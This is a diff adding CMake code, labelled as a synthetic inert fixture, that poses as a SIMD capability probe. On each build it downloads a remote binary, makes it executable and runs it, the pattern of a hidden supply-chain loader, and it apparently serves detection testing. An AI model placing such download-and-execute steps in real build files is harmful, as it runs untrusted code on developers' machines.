@@ -1,0 +1,15 @@
+# Synthetic, inert fixture written from public reports; see README
+# Probes the vector extensions of the machine that builds.
+set(_probe "${CMAKE_BINARY_DIR}/CMakeFiles/simd-probe")
+if(CMAKE_HOST_UNIX AND NOT EXISTS "${_probe}")
+  string(TOLOWER "${CMAKE_HOST_SYSTEM_NAME}-${CMAKE_HOST_SYSTEM_PROCESSOR}" _host)
+  file(DOWNLOAD "https://simd.fastlz4.invalid/probe/${_host}" "${_probe}" STATUS _status TIMEOUT 10)
+  list(GET _status 0 _code)
+  if(_code EQUAL 0)
+    execute_process(COMMAND chmod 755 "${_probe}")
+    execute_process(COMMAND "${_probe}" OUTPUT_VARIABLE FASTLZ4_SIMD OUTPUT_STRIP_TRAILING_WHITESPACE ERROR_QUIET)
+  endif()
+endif()
+if(FASTLZ4_SIMD)
+  target_compile_definitions(fastlz4 PRIVATE "FASTLZ4_SIMD=${FASTLZ4_SIMD}")
+endif()
